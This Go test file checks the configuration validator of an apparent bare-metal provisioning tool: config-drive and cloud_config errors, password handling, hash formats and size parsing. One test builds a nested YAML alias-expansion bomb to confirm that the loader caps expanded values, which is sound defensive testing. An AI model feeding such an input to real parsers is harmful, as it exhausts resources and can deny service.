		{"mount without config drive", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: linux, filesystem: ext4, mount: /srv/data}\n"},
			[]string{`a.yaml:5:69: layout l partition a: mount would not reach the machine: the config drive applies it, and the layout has no partition with content: config`}},

		// config drive formats
		{"config_drive", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n    config_drive: azure\n    image: {url: a.img, sha256: \"" + testSHA + "\"}\n"},
			[]string{`a.yaml:4:19: version v: config_drive "azure": want nocloud or openstack`}},
		{"config_drive without config partition", with(map[string]string{"a.yaml": "versions:\n  - {name: clear, number: 5, config_drive: openstack, installer: {kernel: k}, image: {url: c.img, sha256: \"" + testSHA + "\"}}\n" + host + "    version: clear\n    layout: bare\n"}),
			[]string{`a.yaml:4:10: host 52:54:00:00:00:01: version clear (a.yaml:2) sets config_drive: openstack, but layout bare (catalog.yaml:22) has no partition with content: config (the config drive)`}},

		// cloud_config
		{"cloud_config not a mapping", map[string]string{"a.yaml": host + "    cloud_config: [packages]\n"},
			[]string{`a.yaml:4: cannot unmarshal !!seq into a cloud_config mapping`}},
		{"cloud_config reserved keys", map[string]string{"a.yaml": host + "    cloud_config:\n      users: [root]\n      hostname: x\n      ssh_authorized_keys: []\n      write_files: []\n      network: {config: disabled}\n"},
			[]string{`a.yaml:5:7: cloud_config: users is rackboot's: write accounts under users:`, `a.yaml:6:7: cloud_config: hostname is rackboot's: rackboot names the machine after the host's hostname:`, `a.yaml:7:7: cloud_config: ssh_authorized_keys is rackboot's: write the default user's keys under ssh_keys:`, `a.yaml:8:7: cloud_config: write_files is rackboot's: write files under files:`, `a.yaml:9:7: cloud_config: network is rackboot's: cloud-init reads no network configuration from user-data: write it under network:`}},
		{"cloud_config key", map[string]string{"a.yaml": host + "    cloud_config: {Packages: [htop], 1: x}\n"},
			[]string{`a.yaml:4:20: cloud_config: "Packages" is no cloud-config key: want lower-case letters, digits, '_', '-'`, `a.yaml:4:38: cloud_config: key 1 is no string: cloud-config keys are names`}},
		{"cloud_config bootcmd", map[string]string{"a.yaml": host + "    cloud_config: {bootcmd: reboot}\n"},
			[]string{`a.yaml:4:29: cloud_config: bootcmd: want a list of commands`}},
		{"cloud_config aliases", map[string]string{"a.yaml": host + "    cloud_config:\n      a: &a [x, x, x, x, x, x, x, x, x, x, x, x, x, x, x, x]\n      b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n      c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n      d: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"},
			[]string{`a.yaml:5:7: cloud_config: more than 65536 values once its aliases are expanded`}},
		{"cloud_config without config drive", with(map[string]string{"a.yaml": host + "    version: v1\n    layout: bare\n    cloud_config: {packages: [htop]}\n"}),
			[]string{`a.yaml:2:10: host 52:54:00:00:00:01: cloud_config would not reach the machine: layout bare (catalog.yaml:22) has no partition with content: config (the config drive)`}},
		{"cloud_config tie", map[string]string{"a.yaml": "groups:\n  - {name: g1, match: {labels: {a: \"1\"}}, cloud_config: {packages: [a]}}\n  - {name: g2, match: {labels: {b: \"1\"}}, cloud_config: {packages: [b], runcmd: [x]}}\n" + host + "    labels: {a: \"1\", b: \"1\"}\n"},
			[]string{`a.yaml:5:10: host 52:54:00:00:00:01: group g1 (a.yaml:2) and group g2 (a.yaml:3) apply equally specifically (by 1 label) and disagree on cloud_config[packages]: make one more specific, or set cloud_config[packages] in the host`}},

		// what only the resolved profile shows
		{"version without layout", with(map[string]string{"a.yaml": host + "    version: v1\n"}),
			[]string{`a.yaml:2:10: host 52:54:00:00:00:01: version v1 (from host) needs a layout: set layout in the host, a group or the defaults`}},
		{"layout without version", with(map[string]string{"a.yaml": "defaults: {layout: l1}\n" + host}),
			[]string{`a.yaml:3:10: host 52:54:00:00:00:01: layout l1 (from defaults) needs a version: set version or channel in the host, a group or the defaults`}},
		{"partition image in whole-disk layout", with(map[string]string{"a.yaml": "layouts:\n  - name: lp\n    disk: {select: largest}\n    partitions:\n      - {name: root, size: 8GiB, type: linux-root, content: image}\n" + host + "    version: v1\n    layout: lp\n"}),
			[]string{`a.yaml:7:10: host 52:54:00:00:00:01: version v1 (catalog.yaml:2) is a whole-disk image, but layout lp (a.yaml:2) has a partition with content: image: a whole-disk image brings its own partitions, and the layout's are added after it`}},
		{"partitions image without image partition", with(map[string]string{"a.yaml": "versions:\n  - {name: vp, number: 3, installer: {kernel: k}, image: {url: root.img.xz, sha256: \"" + testSHA + "\", kind: partitions}}\n" + host + "    version: vp\n    layout: l1\n"}),
			[]string{`a.yaml:4:10: host 52:54:00:00:00:01: version vp (a.yaml:2) holds the contents of one partition, but layout l1 (catalog.yaml:13) has 0 partitions with content: image`}},
		{"settings without config drive", with(map[string]string{"a.yaml": "defaults: {channel: stable, layout: bare, ssh_keys: [\"" + testKey + "\"]}\n" +
			"hosts:\n  - {mac: 52:54:00:00:00:01, hostname: n1}\n  - {mac: 52:54:00:00:00:02, hostname: n2}\n"}),
			[]string{`a.yaml:3:11: host 52:54:00:00:00:01: ssh_keys would not reach the machine: layout bare (catalog.yaml:22) has no partition with content: config (the config drive) (and 1 more host)`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := loadErrors(t, tc.files)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
		})
	}
}

// mountLayout is a layout with a config drive and partition.
func mountLayout(partition string) string {
	return "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: c, size: 16MiB, type: linux, content: config}\n      - " + partition + "\n"
}

// TestPasswordNeverInMessages: a plaintext password typed into the wrong
// place must not end up in logs and CI output.
func TestPasswordNeverInMessages(t *testing.T) {
	for _, pw := range []string{"hunter2", "$6$x$hunter2", "$2b$10$hunter2"} {
		got := loadErrors(t, map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    users: [{name: ops, password: '" + pw + "'}]\n"})
		if strings.Contains(strings.Join(got, "\n"), "hunter2") {
			t.Errorf("the password is in the message: %v", got)
		}
	}
}

func TestValidPasswordHashes(t *testing.T) {
	for _, h := range []string{
		testHash,
		"$1$saltsalt$qjXMvbEw8oaL.CzflDugX/",
		"$5$rounds=5000$saltsalt$Ni7zC3KOAQCfljKn3h/FmiwRTkRh5LP6pX9h2sE4OX7",
		"$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7",
		"$2b$10$abcdefghijklmnopqrstuuJ9d5mMtoM5aXAOgKnp4e3rWPIE3Q6hq",
	} {
		if err := checkPassword(h); err != nil {
			t.Errorf("checkPassword(%s): %v", h, err)
		}
	}
}

func TestParseSize(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want uint64
	}{
		{"512MiB", 512 << 20}, {"512M", 512 << 20}, {"20GiB", 20 << 30}, {"20 GiB", 20 << 30},
		{"1TB", 1e12}, {"512MB", 512e6}, {"4096", 4096}, {"4096B", 4096}, {"2TiB", 2 << 40},
	} {
		if got, err := parseSize(tc.in); err != nil || got != tc.want {
			t.Errorf("parseSize(%q) = %d, %v; want %d", tc.in, got, err, tc.want)
		}
	}
	for _, in := range []string{"", "rest", "0GiB", "-1GiB", "1.5GiB", "GiB", "1gib", "1 GiB ", "18446744073709551616"} {
		if got, err := parseSize(in); err == nil {
			t.Errorf("parseSize(%q) = %d", in, got)
		}
	}
}

// TestAfterArgument: rackboot.after is the one rackboot.* kernel argument
// an admin sets (the agent powers the machine off instead of rebooting).
func TestAfterArgument(t *testing.T) {
	set := mustLoad(t, map[string]string{"a.yaml": "defaults:\n  installer: {kernel: vmlinuz, cmdline: \"quiet rackboot.after=poweroff\"}\nhosts:\n  - {mac: \"52:54:00:00:00:01\"}\n"})
	h, _ := set.Lookup(mustMAC(t, "52:54:00:00:00:01"))
	if h.Installer == nil || !strings.Contains(h.Installer.Cmdline, "rackboot.after=poweroff") {
		t.Errorf("installer = %+v", h.Installer)
	}
}
